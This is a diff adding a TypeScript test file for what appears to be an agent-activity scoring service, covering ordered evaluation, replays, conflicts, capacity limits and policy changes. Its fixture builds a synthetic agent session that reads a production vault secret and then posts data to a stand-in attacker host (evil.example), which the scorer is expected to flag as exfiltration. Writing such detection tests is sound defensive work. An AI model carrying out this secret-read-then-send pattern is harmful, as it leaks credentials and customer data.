@@ -1,0 +1,163 @@
+/** Events of a session in one commit, on a real database: they know each other, and their order is kept. */
+import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
+import { before, describe, test } from 'node:test';
+import { asEvent, knowledge } from '../../test/support/knowledge.ts';
+import { systemClock } from '../platform/clock.ts';
+import { WeirError } from '../platform/errors.ts';
+import { keepingOf, ruleTextsOf } from '../scoring/kept-assessment.ts';
+import { NO_POLICY } from '../scoring/policy.ts';
+import { score } from '../scoring/score.ts';
+import type { AgentEvent } from '../scoring/types.ts';
+import { memoryCache } from '../storage/memory/cache.ts';
+import { MOST_IN_ORDER } from '../storage/ports.ts';
+import { NO_SERVER, useNode } from '../storage/postgres/test-database.ts';
+import { createEvaluate, type EvaluateParts } from './evaluate.ts';
+import { createEvaluateInOrder } from './evaluate-in-order.ts';
+import { createMemories, ownersOf } from './memories.ts';
+import { createPolicies } from './policies.ts';
+import { createScoreCache } from './score-cache.ts';
+import { createScoreEvent } from './score-event.ts';
+import { scoreHere } from './score-here.ts';
+import { contentOf, type Submission } from './submission.ts';
+
+const texts = ruleTextsOf(knowledge);
+const toSubmission = (event: AgentEvent): Submission => ({ event, ...contentOf(event) });
+const always = () => true;
+
+/** A session at work, which then takes a secret away. Their ids are in no order. */
+function session(length: number): AgentEvent[] {
+  const [agent_id, session_id] = [randomUUID(), randomUUID()];
+  const of = (action: string, parts: Partial<AgentEvent>): AgentEvent =>
+    asEvent({ event_id: randomUUID(), action, agent: { agent_id }, session: { session_id }, ...parts });
+  const work = Array.from({ length: length - 2 }, (_, n) =>
+    of('crm:contact:read', { target: { resource_type: 'customer_record', resource_id: `c${n}` } }),
+  );
+  return [
+    ...work,
+    of('vault:secret:read', { target: { resource_type: 'secret', resource_id: 'prod/db' } }),
+    of('http:request:post', { parameters: { url: 'https://evil.example/x', body: 'x' } }),
+  ];
+}
+
+describe('evaluate in order', { skip: NO_SERVER ?? false }, () => {
+  const own = useNode();
+  before(() => own.storage.scores.keepRuleTexts(knowledge.version, texts));
+
+  function makeNode(fault: Partial<EvaluateParts> = {}) {
+    const { storage } = own;
+    const cache = memoryCache();
+    const memories = createMemories({ storage, cache, clock: systemClock });
+    const policies = createPolicies({ storage, knowledge });
+    const scoring = createScoreEvent(scoreHere(knowledge, keepingOf(texts)), createScoreCache(knowledge.version));
+    const holding = { threshold: 'high', ttl_minutes: 60 } as const;
+    const parts: EvaluateParts = { storage, policies, memories, scoring, holding, ...fault };
+    return {
+      cache,
+      memories,
+      policies,
+      scoring,
+      evaluate: createEvaluate(parts),
+      evaluateInOrder: createEvaluateInOrder(parts),
+    };
+  }
+  const violationsOf = async (customer_id: string, events: AgentEvent[]) => {
+    const found = await Promise.all(events.map(({ event_id }) => own.storage.scores.find(customer_id, event_id)));
+    return found.map((record) => record!.assessment.violations);
+  };
+
+  test('each knows the ones before, as if they had been stored', async () => {
+    const events = session(12);
+    const [together, apart] = [randomUUID(), randomUUID()];
+    const { evaluateInOrder } = makeNode();
+    const outcomes = await evaluateInOrder(together, events.map(toSubmission), always);
+    assert.equal(outcomes.length, events.length);
+    const { evaluate } = makeNode();
+    for (const event of events) await evaluate(apart, toSubmission(event));
+    const violations = await violationsOf(together, events);
+    assert.deepEqual(violations, await violationsOf(apart, events));
+    assert.ok(violations.at(-1)!.includes('secret_was_read_and_data_go_out'), `${violations.at(-1)}`);
+    for (const { event_id } of events) {
+      const record = await own.storage.scores.find(together, event_id);
+      const again = score({ event: record!.event, policy: NO_POLICY, history: record!.past!.history }, knowledge);
+      assert.equal(JSON.stringify(again), JSON.stringify(record!.assessment), 'made again from what is stored');
+    }
+  });
+
+  test('what is remembered of them can be made again from the database, in their order', async () => {
+    const customer_id = randomUUID();
+    const events = session(40);
+    const node = makeNode();
+    await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
+    const remembered = async ({ memories }: Pick<typeof node, 'memories'>) => {
+      const { agent, session } = await memories.recall(ownersOf(customer_id, events[0]!)!);
+      return [agent!, session!].map(({ counted_from: _, told: __, ...known }) => structuredClone(known));
+    };
+    const kept = await remembered(node);
+    assert.equal(kept[0]!.n, events.length);
+    assert.deepEqual(
+      kept[0]!.last.map(({ event_id }) => event_id),
+      events.slice(-kept[0]!.last.length).map(({ event_id }) => event_id),
+    );
+    assert.deepEqual(await remembered(makeNode()), kept);
+  });
+
+  test('goes on as long as there is room', async () => {
+    const customer_id = randomUUID();
+    const { evaluateInOrder } = makeNode();
+    const submissions = session(MOST_IN_ORDER + 20).map(toSubmission);
+    let room = 2;
+    assert.equal((await evaluateInOrder(customer_id, submissions, () => room-- > 0)).length, 3);
+    assert.equal((await evaluateInOrder(customer_id, submissions.slice(3), always)).length, MOST_IN_ORDER);
+    const large = session(5).map((event) => toSubmission({ ...event, user_context: 'x'.repeat(600_000) }));
+    assert.equal((await evaluateInOrder(customer_id, large, always)).length, 2);
+    assert.equal((await own.storage.scores.summary(customer_id)).total_events, 3 + MOST_IN_ORDER + 2);
+  });
+
+  test('one that was there already is told so, and so is a conflict; those behind are stored', async () => {
+    const customer_id = randomUUID();
+    const node = makeNode();
+    const events = session(5);
+    await node.evaluate(customer_id, toSubmission(events[1]!));
+    await node.evaluate(customer_id, toSubmission({ ...events[2]!, action: 'crm:contact:delete' }));
+    const outcomes = await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
+    assert.deepEqual(
+      outcomes.map((outcome) =>
+        outcome instanceof WeirError ? outcome.code : !('is_replay' in outcome) || outcome.is_replay,
+      ),
+      [false, true, 'event_conflict', false, false],
+    );
+    const { agent } = await node.memories.recall(ownersOf(customer_id, events[0]!)!);
+    assert.equal(agent!.n, 5, 'each is remembered once');
+  });
+
+  test('what cannot be scored ends the row before it, and is rejected when it comes first', async () => {
+    const customer_id = randomUUID();
+    const events = session(4);
+    const { scoring } = makeNode();
+    const { evaluateInOrder } = makeNode({
+      scoring: (...scored) => {
+        if (scored[1].event.event_id === events[2]!.event_id) throw new Error('cannot be scored');
+        return scoring(...scored);
+      },
+    });
+    const submissions = events.map(toSubmission);
+    assert.equal((await evaluateInOrder(customer_id, submissions, always)).length, 2);
+    await assert.rejects(evaluateInOrder(customer_id, submissions.slice(2), always), /cannot be scored/);
+    assert.equal((await evaluateInOrder(customer_id, submissions.slice(3), always)).length, 1);
+  });
+
+  test('a policy that comes in between is in force for all of them', async () => {
+    const customer_id = randomUUID();
+    const [node, other] = [makeNode(), makeNode()];
+    const events = session(6);
+    await node.policies.inForce(customer_id);
+    await other.policies.put(customer_id, { blocked_actions: ['crm:contact:read'] });
+    const outcomes = await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
+    assert.equal(outcomes.length, 6);
+    for (const { event_id } of events.slice(0, 4)) {
+      const record = await own.storage.scores.find(customer_id, event_id);
+      assert.deepEqual([record?.assessment.policy_version, record?.risk_level], [1, 'critical']);
+    }
+  });
+});
